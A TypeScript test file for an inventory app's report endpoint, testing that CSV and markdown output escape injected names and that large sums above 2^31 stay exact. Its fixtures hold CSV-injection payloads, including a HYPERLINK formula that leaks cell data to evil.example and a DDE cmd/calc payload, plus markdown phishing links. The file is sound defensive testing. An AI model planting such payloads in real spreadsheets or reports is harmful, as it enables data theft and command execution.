/**
 * The assistant's reports carry no injections (docs/decisions/012-report-injections.md): items,
 * categories, units and garages named with spreadsheet formulas and markdown links and images
 * come out of every report type as plain text — no CSV cell a spreadsheet would run, no link or
 * image in the markdown — and the summary answers with the largest stock the database holds.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportTypes, type AssistantReply, type ReportType } from '../../../../common/contracts/reports';
import { api, backends, createTestApp, type TestApp } from '../../../test/harness';
import { stockTenant, type StockTenant } from '../../../test/stock-fixtures';

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP, "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const names = {
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  link: '[Reset your password](https://evil.example/reset)',
  image: '![x](https://evil.example/p.png)',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  linenCategory: '+[Linen](https://evil.example/linen)',
  kitchenCategory: '-2+3',
  garage: '@[Depot](https://evil.example/depot)',
  loft: '=![Loft](https://evil.example/loft.png)',
  cabin: '-<https://evil.example/cabin>',
  // Written by SQL: the contracts refuse control characters (rows written before them may have some).
  villa: 'Villa\n\n# [Villa](https://evil.example/villa)',
  tabUnit: '\t=1+1',
  returnGarage: '\r[Main](https://evil.example/main)',
};

/** A name as a markdown reader shows it: the escaping drops line breaks for a space. */
const shown = (name: string) => name.replace(/\r\n|\r|\n/g, ' ');

/** Every node type of `tree` (mdast), depth first. */
function nodeTypes(tree: Nodes): string[] {
  return [tree.type, ...('children' in tree ? tree.children.flatMap(nodeTypes) : [])];
}

/** The text a reader sees in `tree`: text and inline code values. */
function textOf(tree: Nodes): string {
  if (tree.type === 'text' || tree.type === 'inlineCode') return tree.value;
  return 'children' in tree ? tree.children.map(textOf).join(tree.type === 'root' || tree.type === 'list' ? '\n' : '') : '';
}

/**
 * A tenant whose every name is an injection: items used at three units (one far above the
 * median), a garage stocktake that finds stock missing, an unused item; by SQL, a unit renamed
 * to hold line breaks, and the setup's unit and garage to start with a tab and a carriage return.
 */
async function injected(t: TestApp): Promise<StockTenant> {
  const s = await stockTenant(t, 'inject@example.com', [
    { name: names.formula, category: names.linenCategory, minimum_threshold: 2, count_cost: 5 },
    { name: names.link, category: names.kitchenCategory, minimum_threshold: 2, count_cost: 3 },
    { name: names.image, category: names.linenCategory, minimum_threshold: 1, count_cost: 1 },
    { name: names.command, category: names.kitchenCategory, minimum_threshold: 1, count_cost: 2 },
  ]);
  const id = (name: string) => s.itemIds[name]!;
  const call = async (method: 'POST' | 'PUT' | 'PATCH', url: string, body?: unknown) => {
    const res = await api(t, s.cookie, method, url, body);
    if (res.statusCode >= 300) throw new Error(`${method} ${url}: ${res.statusCode} ${res.body}`);
    return res.json() as { id: string };
  };
  const stock = (pairs: [string, number][]) => pairs.map(([name, quantity]) => ({ item_id: id(name), quantity }));
  const depot = await call('POST', '/api/garages', {
    name: names.garage,
    address: '5 Quay',
    inventory: stock([[names.formula, 20], [names.link, 4], [names.image, 4], [names.command, 5]]),
  });
  const unit = (name: string) =>
    call('POST', '/api/units', { name, address: '1 Road', garage_id: depot.id, inventory: stock([[names.formula, 12], [names.link, 2], [names.image, 1]]) });
  const [loft, cabin, villa] = [await unit(names.loft), await unit(names.cabin), await unit('Villa')];
  const consume = async (unitId: string, name: string, times: number) => {
    for (let i = 0; i < times; i++) await call('POST', `/api/units/${unitId}/inventory/${id(name)}/consume`);
  };
  await consume(loft.id, names.formula, 10);
  await consume(cabin.id, names.formula, 1);
  await consume(villa.id, names.formula, 1);
  await consume(loft.id, names.link, 2);
  await consume(cabin.id, names.image, 1);
  // A stocktake at the depot finds 3 of the formula item missing.
  await call('PUT', `/api/garages/${depot.id}/inventory`, {
    inventory: stock([[names.formula, 17], [names.link, 4], [names.image, 4], [names.command, 5]]),
  });
  const rename = (table: 'units' | 'garages', rowId: string, name: string) =>
    t.database.db.execute(sql`update ${sql.identifier(table)} set name = ${name} where tenant_id = ${s.tenantId} and id = ${rowId}`);
  await rename('units', villa.id, names.villa);
  await rename('units', s.unitId, names.tabUnit);
  await rename('garages', s.garageId, names.returnGarage);
  return s;
}

/** Names each report type shows in its CSV and in its text (its facts name the first few). */
const expected: Record<ReportType, { csv: string[]; text: string[] }> = {
  summary: {
    csv: [names.formula, names.link, names.image, names.command, names.linenCategory, names.kitchenCategory],
    text: [names.formula, names.link, names.image],
  },
  critical: {
    csv: [names.tabUnit, names.returnGarage, names.formula, names.link, names.image, names.loft, names.cabin, names.garage],
    text: [names.tabUnit, names.formula, names.returnGarage],
  },
  usage: {
    csv: [names.loft, names.cabin, names.villa, names.formula, names.link, names.image],
    text: [names.loft, names.cabin, names.villa],
  },
  reorder: {
    csv: [names.garage, names.returnGarage, names.formula, names.link, names.image, names.command],
    text: [names.returnGarage],
  },
  expenses: {
    csv: [names.linenCategory, names.kitchenCategory, names.formula, names.link, names.image, names.loft, names.cabin, names.villa],
    text: [names.linenCategory, names.kitchenCategory, names.formula, names.link, names.image, names.loft, names.cabin, names.villa],
  },
  waste: {
    csv: [names.loft, names.formula, names.garage, names.command],
    text: [names.loft, names.formula, names.garage, names.command],
  },
};

describe.each(backends)('report injections on %s', (backend) => {
  let t: TestApp;
  let s: StockTenant;
  const replies = {} as Record<ReportType, AssistantReply>;

  beforeAll(async () => {
    t = await createTestApp(backend);
    s = await injected(t);
    for (const type of reportTypes) {
      const res = await api(t, s.cookie, 'POST', '/api/reports/assistant', { type, days: 7, limit: 200 });
      expect(res.statusCode, res.body).toBe(200);
      replies[type] = res.json();
    }
  });
  afterAll(() => t.close());

  it.each(reportTypes)('%s: no CSV cell starts a formula; each name is there, quoted as text', (type) => {
    const cells: string[] = parseCsv(replies[type].csv, { relax_column_count: false }).flat();
    const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(formulas).toEqual([]);
    for (const name of expected[type].csv) expect(cells).toContain(FORMULA_START.test(name) ? `'${name}` : name);
  });

  it.each(reportTypes)('%s: the text shows each name literally, with no link, image or HTML', (type) => {
    const tree = fromMarkdown(replies[type].text);
    const types = nodeTypes(tree);
    for (const unsafe of ['link', 'image', 'linkReference', 'imageReference', 'definition', 'html']) expect(types).not.toContain(unsafe);
    // Only the summary's own heading and list: no heading, code block or quote from a name.
    expect(types.filter((n) => !['root', 'heading', 'list', 'listItem', 'paragraph', 'text', 'emphasis'].includes(n))).toEqual([]);
    expect(types.filter((n) => n === 'heading')).toHaveLength(1);
    const text = textOf(tree);
    for (const name of expected[type].text) expect(text).toContain(shown(name));
  });
});

describe.each(backends)('report sums past 2^31 on %s', (backend) => {
  let t: TestApp;
  let s: StockTenant;
  /** The most a stock row holds (migration 0009) and the highest unit cost. */
  const ROW = 10_000_000;
  const COST = 1_000_000;
  /** 220 rows at the maximum: 2,200,000,000 (2^31 is 2,147,483,648). */
  const SHEETS = 220;

  beforeAll(async () => {
    t = await createTestApp(backend);
    s = await stockTenant(t, 'big@example.com', [{ name: 'Towel', category: 'Linen', minimum_threshold: 1, count_cost: 1 }]);
    const db = t.database.db;
    const towel = s.itemIds.Towel!;
    await db.execute(sql`update items set count_cost = ${COST} where tenant_id = ${s.tenantId}`);
    const place = async (k: number) => {
      const garage = (await api(t, s.cookie, 'POST', '/api/garages', { name: `Depot ${k}`, address: 'Quay' })).json().id as string;
      const unit = (await api(t, s.cookie, 'POST', '/api/units', { name: `Unit ${k}`, address: 'Road', garage_id: garage })).json().id as string;
      return { garage, unit };
    };
    const [first, second] = [await place(0), await place(1)];
    // Depot 0 and Unit 0 hold SHEETS items at the maximum each; every stock row equals the sum of its movements.
    await db.execute(sql`
      insert into items (tenant_id, name, category, minimum_threshold, count_cost)
      select ${s.tenantId}, 'Sheet ' || lpad(n::text, 3, '0'), 'Bedding', 0, 1 from generate_series(1, ${SHEETS}) n`);
    const sheets = sql`select id from items where tenant_id = ${s.tenantId} and category = 'Bedding'`;
    await db.execute(sql`
      insert into garage_inventory (tenant_id, garage_id, item_id, quantity) select ${s.tenantId}, ${first.garage}, id, ${ROW} from (${sheets}) i`);
    await db.execute(sql`
      insert into unit_inventory (tenant_id, unit_id, item_id, quantity) select ${s.tenantId}, ${first.unit}, id, ${ROW} from (${sheets}) i`);
    for (const [location, garage, unit] of [['garage', first.garage, null], ['unit', null, first.unit]] as const) {
      await db.execute(sql`
        insert into inventory_logs (tenant_id, item_id, quantity_change, source_type, unit_id, garage_id, type, unit_cost, created_at)
        select ${s.tenantId}, id, ${ROW}, ${location}, ${unit}, ${garage}, 'initial', 1, now() - interval '30 days' from (${sheets}) i`);
    }
    // Each unit: SHEETS / 2 times the maximum of towels added, then found missing in a count
    // (usage), ending at 0: 2,200,000,000 towels used in all.
    for (const { unit } of [first, second]) {
      await db.execute(sql`insert into unit_inventory (tenant_id, unit_id, item_id, quantity) values (${s.tenantId}, ${unit}, ${towel}, 0)`);
      await db.execute(sql`
        insert into inventory_logs (tenant_id, item_id, quantity_change, source_type, unit_id, type, unit_cost, created_at)
        select ${s.tenantId}, ${towel}, change, 'unit', ${unit}, type, ${COST}, now() - interval '1 hour'
        from generate_series(1, ${SHEETS / 2}) n, (values (${ROW}::int, 'external_addition'), (${-ROW}::int, 'count')) m(change, type)`);
    }
  });
  afterAll(() => t.close());

  it('answers the summary with its exact sums', async () => {
    const res = await api(t, s.cookie, 'POST', '/api/reports/assistant', { type: 'summary', days: 7, limit: 50 });
    expect(res.statusCode, res.body).toBe(200);
    const reply = res.json<AssistantReply>();
    expect(reply.text).toContain('Stock on hand now: 2200000000 in garages and 2200000000 in units.');
    expect(reply.text).toContain('2200000000 items used, costing $2200000000000000.00.');
    // Three unit rows of towels at 0: the setup's unit and Units 0 and 1.
    expect(reply.csv).toContain('\nTowel,Linen,0,0,0,3,2200000000,2200000000000000.00\n');
  });

  it('orders past 2^31 in the restock plan', async () => {
    const reply = (await api(t, s.cookie, 'POST', '/api/reports/assistant', { type: 'reorder', days: 7, limit: 50 })).json<AssistantReply>();
    // Per depot: 14 days of 1,100,000,000 a week, plus 1 short at its unit, none on hand.
    expect(reply.csv).toContain('\nDepot 0,Towel,0,1,157142857.14,0.0,2200000001\n');
    expect(reply.text).toContain('3 garage items to order, 4400000003 pieces in total.');
  });

  it.each(reportTypes)('%s: answers 200 over 7 and 90 days', async (type) => {
    for (const days of [7, 90]) {
      const res = await api(t, s.cookie, 'POST', '/api/reports/assistant', { type, days, limit: 200 });
      expect(res.statusCode, `${type} ${days} days: ${res.body}`).toBe(200);
    }
  });
});
